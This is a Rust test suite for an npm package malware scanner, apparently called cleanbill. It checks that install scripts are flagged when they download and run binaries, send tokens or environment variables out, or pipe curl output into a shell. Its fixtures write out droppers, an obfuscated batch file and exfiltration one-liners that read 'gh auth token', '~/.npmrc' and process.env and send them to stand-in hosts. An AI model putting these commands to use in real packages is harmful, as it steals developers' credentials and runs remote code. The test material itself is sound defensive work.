//! Command lines and the scripts they run: shell and batch files of the package, what is printed into a command,
//! programs that lie in the tarball.
use crate::common::{clean, flagged, imported, installed, level, package, run};
use cleanbill_js::Analysis;
use cleanbill_model::Level::{Block, Quarantine};

/// A package whose install script is `command`, with one more file.
fn scripted(command: &str, path: &str, text: &str) -> Analysis {
    let manifest = format!(
        r#"{{"name":"case","version":"1.0.0","scripts":{{"preinstall":{}}}}}"#,
        serde_json::Value::from(command)
    );
    run(package(&[("package.json", &manifest), (path, text)]))
}

#[test]
fn a_shell_script_that_downloads_and_runs_is_a_dropper_with_its_line() {
    let a = scripted(
        "sh setup.sh",
        "setup.sh",
        "#!/bin/sh\nif [ ! -f tool ]; then\n\tcurl -fsS http://192.0.2.7/tool -o tool\nfi\nchmod +x tool\n./tool &\n",
    );
    flagged(&a, "FLO-06", Block);
    let chain = a.chains.iter().find(|c| c.id == "FLO-06").expect("a chain");
    let last = chain.steps.last().expect("a step");
    assert_eq!((last.file.as_str(), last.line), ("setup.sh", 6));
}

#[test]
fn a_script_that_code_starts_is_read_as_well() {
    let a = run(package(&[
        (
            "package.json",
            r#"{"name":"case","version":"1.0.0","scripts":{"preinstall":"node setup.js"}}"#,
        ),
        (
            "setup.js",
            "const { exec, spawn } = require('child_process'); if (process.platform === 'win32') spawn('cmd.exe', ['/c', 'setup.bat']); else exec('/bin/bash setup.sh');",
        ),
        (
            "setup.sh",
            "#!/bin/bash\nwget http://192.0.2.7/tool -O tool\n./tool\n",
        ),
        (
            "setup.bat",
            "@echo off\ncurl http://192.0.2.8/a.dll -o a.dll\nregsvr32.exe -s a.dll\n",
        ),
    ]));
    for file in ["setup.sh", "setup.bat"] {
        assert!(
            a.chains
                .iter()
                .any(|c| c.id == "FLO-06" && c.level == Block && c.steps.iter().any(|s| s.file == file)),
            "{file}: {:#?}",
            a.chains
        );
    }
}

#[test]
fn a_batch_file_spelt_from_the_letters_of_one_variable_is_read() {
    let a = scripted(
        "start /B run.bat",
        "run.bat",
        "@echo off\nset key=xruclte\n@set go=%key:~3,1%%key:~2,1%%key:~1,1%%key:~4,1%\n%go% -k https://files.example/a.dll -o a.dll\nregsvr32 -s a.dll\n",
    );
    flagged(&a, "FLO-06", Block);
}

#[test]
fn a_build_script_is_clean() {
    clean(&scripted(
        "sh build.sh",
        "build.sh",
        "#!/bin/sh\n# builds the parser\nset -e\ncd src && make \\\n  all\ncp src/parser.o lib/\necho done\n",
    ));
    clean(&scripted(
        "sh setup.sh",
        "setup.sh",
        "#!/bin/sh\ncurl -fsSL https://github.com/left/left/releases/download/v1.0.0/left.tar.gz -o left.tar.gz\ntar xzf left.tar.gz\n./left --version\n",
    ));
}

#[test]
fn what_is_printed_into_a_command_goes_out_with_it() {
    for command in [
        "curl -d \"$(gh auth token)\" https://hook.example/a",
        "curl -d \"`env`\" https://hook.example/a",
        "cat ~/.npmrc | curl -d @- https://hook.example/a",
        "printenv | base64 | curl --data-binary @- https://hook.example/a",
    ] {
        let a = scripted(command, "index.js", "");
        assert!(
            level(&a, "FLO-01") >= Some(Quarantine),
            "{command}: {:#?}",
            a.chains
        );
    }
    let version = scripted(
        "curl -d \"$(node --version)\" https://hook.example/a",
        "index.js",
        "",
    );
    assert_eq!(level(&version, "FLO-01"), None);
}

#[test]
fn what_a_download_prints_and_a_shell_runs_is_code_from_the_network() {
    for command in [
        "nohup bash -c \"$(curl -fsSL http://192.0.2.36/mac.sh)\" > /dev/null 2>&1 &",
        "bash <(curl -s https://files.example/run.sh)",
        "eval \"$(curl -s https://files.example/run.sh)\"",
    ] {
        let code = format!(
            "require('child_process').exec({});",
            serde_json::Value::from(command)
        );
        flagged(&imported(&code), "FLO-03", Block);
    }
    clean(&imported(
        "require('child_process').exec('bash -c \"$(cat script.sh)\"');",
    ));
}

#[test]
fn a_program_of_the_tarball_is_one_whatever_its_bytes_say() {
    for code in [
        "require('child_process').execFile(require('path').join(__dirname, 'view.exe'), ['/x'])",
        "require('child_process').spawn('rundll32', [require('path').join(__dirname, './view.dll') + ',main'])",
    ] {
        let a = run(package(&[
            (
                "package.json",
                r#"{"name":"case","version":"1.0.0","scripts":{"install":"node setup.js"}}"#,
            ),
            ("setup.js", code),
            ("view.exe", "no program here"),
            ("view.dll", "no program here"),
        ]));
        flagged(&a, "EXE-11", Quarantine);
    }
    clean(&installed(
        "require('child_process').execFile('node', ['--version'])",
    ));
}

#[test]
fn scripts_that_run_each_other_come_to_an_end() {
    let a = run(package(&[
        (
            "package.json",
            r#"{"name":"case","version":"1.0.0","scripts":{"install":"sh a.sh"}}"#,
        ),
        ("a.sh", "#!/bin/sh\nsh b.sh\nsh b.sh\nsh a.sh\n"),
        ("b.sh", "#!/bin/sh\nsh a.sh\nsh b.sh\n"),
    ]));
    clean(&a);
}

#[test]
fn other_runtimes_run_the_file_they_name() {
    const THEFT: &str =
        "require('https').request('https://collect.example/').end(JSON.stringify(process.env))";
    for script in [
        "npx --yes bun@1.2.4 run setup.js",
        "npx -y bun setup.js",
        "npx -p bun@1 bun run ./setup.js",
        "bunx tsx setup.js",
        "bun setup.js",
        "bun run prepare-it",
        "deno run -A setup.js",
        "npx tsx@4 setup.js",
        "npm exec --yes -- tsx setup.js",
        "pnpm dlx bun@latest run setup.js",
        "cross-env CI=1 ts-node setup.js",
    ] {
        let manifest = format!(
            r#"{{"name":"case","version":"1.0.0","scripts":{{"postinstall":"{script}","prepare-it":"node setup.js"}}}}"#
        );
        let a = run(package(&[("package.json", &manifest), ("setup.js", THEFT)]));
        assert_eq!(level(&a, "FLO-01"), Some(Block), "{script}");
    }
    let spawned = run(package(&[
        (
            "package.json",
            r#"{"name":"case","version":"1.0.0","scripts":{"postinstall":"node start.js"}}"#,
        ),
        (
            "start.js",
            "require('child_process').spawn('npx',['-y','bun@1.2.4','run',require('path').join(__dirname,'inner.data')])",
        ),
        ("inner.data", THEFT),
    ]));
    flagged(&spawned, "FLO-01", Block);
}
